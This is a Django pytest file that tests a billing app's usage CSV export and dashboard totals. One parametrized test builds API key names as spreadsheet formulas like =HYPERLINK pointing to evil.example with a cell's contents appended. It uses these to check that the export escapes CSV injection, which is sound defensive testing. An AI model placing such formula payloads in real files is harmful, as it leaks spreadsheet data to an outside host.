from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from billing.models import Charge
from billing.services.charges import charge_post, charge_reserve, charge_void
from billing.services.keys import api_key_create, provider_key_save
from billing.views import CSV_COLUMNS, NO_KEY
from tests import factories

pytestmark = pytest.mark.django_db

DAY_1 = datetime(2025, 3, 1, 9, 30, tzinfo=timezone.get_fixed_timezone(0))
DAY_2 = DAY_1 + timedelta(days=1)


def run(*, user, route, units=1, key=None, at=DAY_1, outcome="post") -> Charge:
    """A job's charge as the job runner makes it: reserve, then post or void."""
    job_id = uuid.uuid4()
    charge_reserve(job_id=job_id, user=user, card=route.card, route=route, api_key=key, units=units)
    if outcome == "post":
        charge_post(job_id=job_id)
    elif outcome == "void":
        charge_void(job_id=job_id)
    # Back-date it: created_at is set by the database when the row is made.
    Charge.objects.filter(job_id=job_id).update(created_at=at)
    return Charge.objects.get(job_id=job_id)


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_usage_is_summed_per_day_key_and_model_to_the_last_digit(owner_client, owner, other_user):
    factories.funded(owner, "10")
    factories.funded(other_user, "10")
    detr = factories.route(price=Decimal("0.0002"))
    tiny = factories.route(price=Decimal("0.0000075"))
    byok = factories.byok_route(price=Decimal("0.0001"))
    provider_key_save(user=owner, provider="cloudflare", secret="cf-Secret-abcdefgh-1234")
    laptop, _ = api_key_create(user=owner, name="laptop")
    ci, _ = api_key_create(user=owner, name="ci")

    run(user=owner, route=detr, key=laptop, units=2)
    run(user=owner, route=detr, key=laptop, units=3, at=DAY_1 + timedelta(hours=10))
    run(user=owner, route=tiny, key=laptop, units=3)
    run(user=owner, route=tiny, key=laptop, units=1)
    run(user=owner, route=detr, key=ci, units=1)
    run(user=owner, route=detr, key=laptop, units=7, at=DAY_2)
    run(user=owner, route=byok, key=ci, units=4, at=DAY_2)
    run(user=owner, route=detr, units=1, at=DAY_2)  # the playground, no key
    run(user=owner, route=detr, key=laptop, units=50, outcome="void")  # failed: free
    run(user=owner, route=detr, key=laptop, units=60, outcome=None)  # still running
    run(user=other_user, route=detr, units=9)  # somebody else's

    response = owner_client.get(reverse("billing:usage_csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response.content.decode().splitlines()[0] == ",".join(CSV_COLUMNS)

    laptop_label = f"laptop (vt_{laptop.prefix})"
    ci_label = f"ci (vt_{ci.prefix})"
    expected = [
        ("2025-03-01", ci_label, detr.card.model_id, "1", "0.0002", "no", "0.0002"),
        ("2025-03-01", laptop_label, detr.card.model_id, "5", "0.001", "no", "0.001"),
        ("2025-03-01", laptop_label, tiny.card.model_id, "4", "0.00003", "no", "0.00003"),
        ("2025-03-02", NO_KEY, detr.card.model_id, "1", "0.0002", "no", "0.0002"),
        ("2025-03-02", ci_label, byok.card.model_id, "4", "0", "yes", "0.0004"),
        ("2025-03-02", laptop_label, detr.card.model_id, "7", "0.0014", "no", "0.0014"),
    ]
    rows = [tuple(row[c] for c in CSV_COLUMNS) for row in read_csv(response)]
    assert sorted(rows) == sorted(expected)


def test_no_usage_is_just_the_header(owner_client):
    response = owner_client.get(reverse("billing:usage_csv"))
    assert response.content.decode().splitlines() == [",".join(CSV_COLUMNS)]


def test_the_dashboard_lists_recent_usage_and_what_is_held(owner_client, owner):
    factories.funded(owner, "1")
    detr = factories.route(price=Decimal("0.0002"))
    laptop, _ = api_key_create(user=owner, name="laptop")
    run(user=owner, route=detr, key=laptop, units=3)
    run(user=owner, route=detr, key=laptop, units=60, outcome=None)  # running

    page = owner_client.get(reverse("billing:dashboard"))
    assert page.context["held"] == "$0.012"
    assert page.context["balance"] == "$0.9874"  # 1 - 0.0006 posted - 0.012 held
    usage = [
        (u["model_id"], u["key_name"], u["charge"].units, u["amount"], u["charge"].status)
        for u in page.context["usage"]
    ]
    assert sorted(usage) == [
        (detr.card.model_id, "laptop", 3, "$0.0006", "posted"),
        (detr.card.model_id, "laptop", 60, "$0.012", "reserved"),
    ]
    html = page.content.decode()
    assert "<td>$0.0006</td>" in html
    assert "Reserved" in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_the_user_controls_is_a_spreadsheet_formula(owner_client, owner, start):
    # OWASP CSV injection: a key named =HYPERLINK(...) must arrive as text, not a formula.
    factories.funded(owner, "1")
    card = factories.card(organisation=factories.organisation(slug=f"{start}2+3"))
    route = factories.route(card=card, price=Decimal("0.0002"))
    name = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"click")'
    key, _ = api_key_create(user=owner, name=name)
    run(user=owner, route=route, key=key)

    response = owner_client.get(reverse("billing:usage_csv"))

    (row,) = read_csv(response)
    assert row["api_key"] == f"'{name} (vt_{key.prefix})"
    assert row["model"] == f"'{card.model_id}"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert (row["images"], row["cost_usd"]) == ("1", "0.0002")  # numbers stay numbers


def test_ordinary_names_are_written_as_they_are(owner_client, owner):
    factories.funded(owner, "1")
    route = factories.route(price=Decimal("0.0002"))
    key, _ = api_key_create(user=owner, name="laptop = work, 2+2 @home")
    run(user=owner, route=route, key=key)
    (row,) = read_csv(owner_client.get(reverse("billing:usage_csv")))
    assert row["api_key"] == f"laptop = work, 2+2 @home (vt_{key.prefix})"
    assert row["model"] == route.card.model_id
